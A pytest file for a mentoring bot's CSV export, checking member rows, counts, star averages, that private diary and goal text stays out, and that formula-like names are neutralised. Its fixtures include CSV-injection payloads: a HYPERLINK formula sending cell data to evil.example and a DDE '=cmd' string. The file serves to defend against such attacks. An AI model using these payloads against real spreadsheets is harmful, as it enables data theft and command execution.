"""The coordinators' mentorships CSV: one row per member with counts and stars, and no goal,
diary, pulse or change-request text, however formula-like what people typed."""

from __future__ import annotations

import csv
import io

from bot.services.export import BOM, MENTORSHIP_COLUMNS, export_period
from store.db import SessionFactory
from store.models import ChangeRequest, DiaryEntry, Evaluation, Pulse
from store.statuses import GoalStatus, MemberStatus, Role
from tests.conftest import ADA, BEN, CHITRA, DAN
from tests.seed import DAY, add_attendance, add_mentor, add_mentorship, add_session, add_user
from tests.seed import PERIOD_END as NOW
from tests.seed import PERIOD_START as START

FORMULA_GOAL = '=HYPERLINK("http://evil.example/?"&A1,"Speak at a conference")'
DIARY_TEXT = "Discussed my salary negotiation in detail"
PULSE_COMMENT = "He seems distracted"
CHANGE_REASON = "I would rather work with someone else"
EVALUATION_TEXT = "Where I started: afraid of the stage"


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def seed(sessions: SessionFactory) -> None:
    """Ada mentors Ben (a formula-like goal, a diary, pulses, a change request) and a group of
    Chitra and Fay; Dan's mentorship with Gus ended a month ago (outside the period)."""
    with sessions.begin() as s:
        ada = add_mentor(s, ADA, name="Ada Lovelace", capacity=40, at=NOW - 100 * DAY)
        dan = add_mentor(s, DAN, name="Dan Brown", capacity=40, at=NOW - 100 * DAY)
        ben, chitra, fay, gus = (
            add_user(s, u, name=f"Name {u}") for u in (BEN, CHITRA, "U0FAY", "U0GUS")
        )
        pair = add_mentorship(s, ada, [ben], goals=(FORMULA_GOAL, "Run one-to-ones"),
                              at=NOW - 30 * DAY)  # fmt: skip
        member = pair.members[0]
        member.goals[1].status = GoalStatus.REACHED
        for at in (NOW - 20 * DAY, NOW - 6 * DAY):
            booking = add_session(s, ada.id, ben.id, at)
            booking.mentorship_id = pair.id
        no_show = add_session(s, ada.id, ben.id, NOW - 13 * DAY)
        no_show.mentorship_id = pair.id
        add_attendance(s, no_show.id, ada.user_id, False, "no_show")
        s.add(DiaryEntry(member_id=member.id, discussed=DIARY_TEXT, created_at=NOW - 6 * DAY))
        s.add_all(
            Pulse(member_id=member.id, respondent_id=who, round=1, stars=stars,
                  comment=PULSE_COMMENT, created_at=NOW - DAY)
            for who, stars in ((ben.id, 2), (ada.user_id, 5))
        )  # fmt: skip
        s.add(ChangeRequest(member_id=member.id, requester_id=ben.id, reason=CHANGE_REASON,
                            created_at=NOW - DAY))  # fmt: skip
        add_mentorship(s, ada, [chitra, fay], group_name="=cmd|' /C calc'!A0",
                       at=NOW - 10 * DAY)  # fmt: skip
        ended = add_mentorship(s, dan, [gus], MemberStatus.ENDED, at=NOW - 120 * DAY)
        ended.members[0].ended_at = START - 20 * DAY
        s.add(
            Evaluation(
                member_id=ended.members[0].id,
                respondent_id=gus.id,
                role=Role.MENTEE,
                stars=3,
                started_where=EVALUATION_TEXT,
                created_at=START - 20 * DAY,
            )
        )


def test_one_row_per_member_with_counts_and_stars(sessions: SessionFactory) -> None:
    seed(sessions)
    with sessions.begin() as session:
        made = export_period(session, start=START, end=NOW)

    found = rows(made.mentorships_csv)
    assert made.mentorships == 3 and len(found) == 3  # Ben, Chitra, Fay; Gus ended before
    assert tuple(found[0]) == MENTORSHIP_COLUMNS
    ben = found[0]
    assert {key: ben[key] for key in MENTORSHIP_COLUMNS[2:]} == {
        "programme": "Mentoring programme",
        "kind": "pair",
        "status": "active",
        "cadence": "fortnightly",
        "months": "3",
        "starts_on": "2026-10-27",
        "ends_on": "2027-01-25",
        "mentor_slack_id": ADA,
        "mentor_name": "Ada Lovelace",
        "mentee_slack_id": BEN,
        "mentee_name": f"Name {BEN}",
        "goals": "2",
        "goals_reached": "1",
        "sessions_held": "2",  # the no-show is not held
        "diary_entries": "1",
        "pulse_average": "3.5",
        "mentee_evaluation_stars": "",
        "mentor_evaluation_stars": "",
    }
    assert [(r["kind"], r["mentee_slack_id"]) for r in found[1:]] == [
        ("group", CHITRA),
        ("group", "U0FAY"),
    ]


def test_no_goal_diary_pulse_or_reason_text_leaves(sessions: SessionFactory) -> None:
    """A goal that is a spreadsheet formula, a group named like one, a diary, pulse comments,
    a change request's reason: none of their text is in any file of the export."""
    seed(sessions)
    with sessions.begin() as session:
        made = export_period(session, start=START - 60 * DAY, end=NOW)

    everything = made.mentorships_csv + made.sessions_csv + made.reviews_csv
    assert made.mentorships == 4  # Gus's ended mentorship is within these 67 days
    for secret in (FORMULA_GOAL, "HYPERLINK", "Run one-to-ones", DIARY_TEXT, PULSE_COMMENT,
                   CHANGE_REASON, EVALUATION_TEXT, "calc", "Confidence on stage."):  # fmt: skip
        assert secret not in everything, f"{secret!r} is in the export"
    gus = rows(made.mentorships_csv)[-1]
    assert (gus["status"], gus["mentee_evaluation_stars"]) == ("ended", "3")


def test_a_formula_like_name_is_quoted_and_neutralised(sessions: SessionFactory) -> None:
    """Names still go out as the other exports send them, made inert the same way."""
    with sessions.begin() as s:
        ada = add_mentor(s, ADA, name="@SUM(A1:A9)", capacity=40, at=NOW - 100 * DAY)
        add_mentorship(s, ada, [add_user(s, BEN, name="-2+3")], at=NOW - DAY)
    with sessions.begin() as session:
        text = export_period(session, start=START, end=NOW).mentorships_csv
    (row,) = rows(text)
    assert (row["mentor_name"], row["mentee_name"]) == ("'@SUM(A1:A9)", "'-2+3")
    assert '"\'@SUM(A1:A9)"' in text
